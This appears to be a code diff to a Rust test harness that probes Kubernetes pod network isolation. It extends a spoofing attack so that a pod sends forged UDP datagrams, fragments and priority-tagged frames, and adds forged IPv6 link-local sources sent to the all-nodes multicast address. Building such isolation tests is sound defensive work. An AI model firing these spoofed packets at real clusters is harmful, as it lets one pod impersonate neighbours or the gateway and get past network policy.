@@ -5,7 +5,7 @@ use std::net::SocketAddr;
 use anyhow::Result;
 
 use crate::attack::Attack;
-use crate::frame::{as_later_fragment, udp};
+use crate::frame::{ALL_NODES, Macs, as_later_fragment, link_local, priority_tagged, udp};
 use crate::gain::Gain;
 use crate::launch::launch;
 use crate::scene::{MACHINE, Scene, sibling};
@@ -13,7 +13,7 @@ use crate::witness::{Witness, forged_as};
 
 pub(super) const ATTACK: Attack = Attack {
     name: "datagrams as others",
-    idea: "A pod sends datagrams, and fragments of some, with the addresses of a neighbour, a remote pod, \
+    idea: "A pod sends datagrams, fragments of some and such with a priority tag, with the addresses of a neighbour, a remote pod, \
            a Service, the gateway, the nodes and a machine outside, to each of them. It would speak as one \
            of them: somebody else sees such a packet.",
     needs_check: true,
@@ -50,8 +50,7 @@ fn run(scene: &Scene) -> Result<Gain> {
         let mut send = |macs, to: SocketAddr| -> Result<()> {
             if source.ip() != to.ip() {
                 let frame = udp(macs, source, to, &payload)?;
-                frames.push(as_later_fragment(&frame)?);
-                frames.push(frame);
+                frames.extend([as_later_fragment(&frame)?, priority_tagged(&frame)?, frame]);
             }
             Ok(())
         };
@@ -61,6 +60,16 @@ fn run(scene: &Scene) -> Result<Gain> {
         for (address, macs) in neighbours {
             send(macs, SocketAddr::new(address, victim.port()))?;
         }
+    }
+    // These exist in clusters with IPv4 alone, too.
+    for (name, mac) in [
+        ("a neighbour's link-local", scene.to_neighbour(&scene.victim)?.to),
+        ("the gateway's link-local", to_gateway.to),
+    ] {
+        let macs = Macs { to: ALL_NODES.0, ..to_gateway };
+        let source = SocketAddr::new(link_local(mac).into(), 4444);
+        let to = SocketAddr::new(ALL_NODES.1.into(), victim.port());
+        frames.push(udp(macs, source, to, &forged_as(name))?);
     }
     let witness = Witness::everywhere(scene)?;
     launch(scene, &scene.attacker, "eth0", &frames)?;
